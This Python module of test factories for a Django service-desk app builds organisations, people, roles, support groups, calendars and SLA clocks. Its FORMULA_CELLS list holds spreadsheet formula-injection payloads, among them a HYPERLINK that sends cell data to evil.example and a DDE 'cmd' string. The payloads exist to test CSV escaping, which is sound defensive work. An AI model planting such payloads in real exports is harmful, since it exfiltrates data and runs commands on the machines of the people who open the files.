"""Factories for the core models; areas import these and add their own."""

import datetime as dt
from typing import Any

import factory
import pytest
from django.contrib.contenttypes.models import ContentType

from steward.core import clocks, permissions
from steward.core.models import (
    BusinessCalendar,
    Organisation,
    OrganisationMembership,
    Person,
    RoleAssignment,
    SlaClock,
    SupportGroup,
    SupportGroupMembership,
    WorkingPeriod,
)

PASSWORD = "correct-horse-42"


class OrganisationFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Organisation
        django_get_or_create = ("code",)

    name = factory.Sequence(lambda n: f"Organisation {n}")
    code = factory.Sequence(lambda n: f"org-{n}")
    kind = "customer"


class PersonFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Person
        django_get_or_create = ("username",)
        skip_postgeneration_save = True

    username = factory.Sequence(lambda n: f"person{n}")
    first_name = factory.Sequence(lambda n: f"First{n}")
    last_name = factory.Sequence(lambda n: f"Last{n}")
    email = factory.LazyAttribute(lambda p: f"{p.username}@example.com")
    password = factory.django.Password(PASSWORD)

    @factory.post_generation
    def organisations(self, create, extracted, **kwargs):
        for i, org in enumerate(extracted or []):
            OrganisationMembership.objects.get_or_create(
                person=self, organisation=org, defaults={"is_primary": i == 0}
            )


def give_role(person: Person, role: str, scope=None) -> RoleAssignment:
    assignment, _ = RoleAssignment.objects.get_or_create(
        person=person,
        role=role,
        scope_type=ContentType.objects.get_for_model(scope) if scope is not None else None,
        scope_id=scope.pk if scope is not None else None,
    )
    permissions.forget(person)
    return assignment


def make_person(*roles: str, organisation=None, scope=None, **kwargs) -> Person:
    """A person holding ``roles`` (each limited to ``scope`` when given)."""
    person = PersonFactory(organisations=[organisation] if organisation else [], **kwargs)
    for role in roles:
        give_role(person, role, scope)
    return person


def staff_fixture(name: str, role: str, username: str, scope: str = "") -> Any:
    """A fixture ``name``: a person of the provider holding ``role`` (over the record of
    fixture ``scope`` when given; assign it to ``name`` in a test module or conftest)."""

    @pytest.fixture(name=name)
    def person(request: pytest.FixtureRequest, db: None, provider: Organisation) -> Person:
        over = request.getfixturevalue(scope) if scope else None
        return make_person(role, organisation=provider, scope=over, username=username)

    return person


class SupportGroupFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = SupportGroup
        django_get_or_create = ("name",)

    name = factory.Sequence(lambda n: f"Group {n}")
    organisation = factory.SubFactory(OrganisationFactory, kind="provider")


def add_member(group: SupportGroup, person: Person) -> SupportGroupMembership:
    return SupportGroupMembership.objects.get_or_create(group=group, person=person)[0]


def group_member(group: SupportGroup, *roles: str, scoped: bool = False, **kwargs) -> Person:
    """A member of ``group`` holding ``roles`` in its organisation (over the group only when
    ``scoped``)."""
    scope = group if scoped else None
    person = make_person(*roles, organisation=group.organisation, scope=scope, **kwargs)
    add_member(group, person)
    return person


def member_fixture(
    name: str, group: str, role: str, username: str, scoped: bool = False, **kwargs: Any
) -> Any:
    """A fixture ``name``: a member of the support group of fixture ``group`` holding
    ``role`` (over that group only when ``scoped``)."""

    @pytest.fixture(name=name)
    def member(request: pytest.FixtureRequest) -> Person:
        found = request.getfixturevalue(group)
        return group_member(found, role, scoped=scoped, username=username, **kwargs)

    return member


def make_customer(organisation: Organisation, role: str = "requester", **kwargs: Any) -> Person:
    """A requester of ``organisation``, or its customer representative (over it)."""
    scope = organisation if role == "customer_representative" else None
    return make_person(role, organisation=organisation, scope=scope, **kwargs)


def customer_fixture(name: str, organisation: str, role: str, username: str) -> Any:
    """A fixture ``name``: a ``make_customer`` of the organisation of fixture
    ``organisation``."""

    @pytest.fixture(name=name)
    def customer(request: pytest.FixtureRequest) -> Person:
        return make_customer(request.getfixturevalue(organisation), role, username=username)

    return customer


class BusinessCalendarFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = BusinessCalendar
        django_get_or_create = ("name",)
        skip_postgeneration_save = True

    name = factory.Sequence(lambda n: f"Calendar {n}")
    time_zone = "Europe/Amsterdam"

    @factory.post_generation
    def office_hours(self, create, extracted, **kwargs):
        """Monday to Friday 08:00-17:00 unless ``office_hours=False``."""
        if extracted is False:
            return
        for weekday in range(5):
            WorkingPeriod.objects.create(
                calendar=self, weekday=weekday, start_time=dt.time(8), end_time=dt.time(17)
            )


# Text a spreadsheet would run as a formula (OWASP CSV injection): every CSV producer's
# test feeds these and expects each back with one leading apostrophe (core.csvsafe).
FORMULA_CELLS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


# Events the core tests publish about organisations and people, which Steward itself does
# not: declared around each test (``src/steward/conftest.py``), never in the catalog.
TEST_EVENTS = ("core.organisation.updated", "core.organisation.created", "core.person.updated")


def declare_test_events() -> None:
    from steward.core import events

    for name in TEST_EVENTS:
        model = Organisation if ".organisation." in name else Person
        events.declare(name, model=model, description="Test only.")


def start_clock(
    record: Any, calendar: BusinessCalendar, *, at: dt.datetime, target: int = 4 * 3600,
    name: str = "P1 resolution", metric: str = "resolution", **kwargs: Any,
) -> SlaClock:  # fmt: skip
    """A clock (resolution unless said otherwise) of ``target`` seconds on ``record``,
    started at ``at``."""
    return clocks.clock_start(
        record=record, metric=metric, name=name, calendar=calendar,
        target_seconds=target, started_at=at, **kwargs,
    )  # fmt: skip
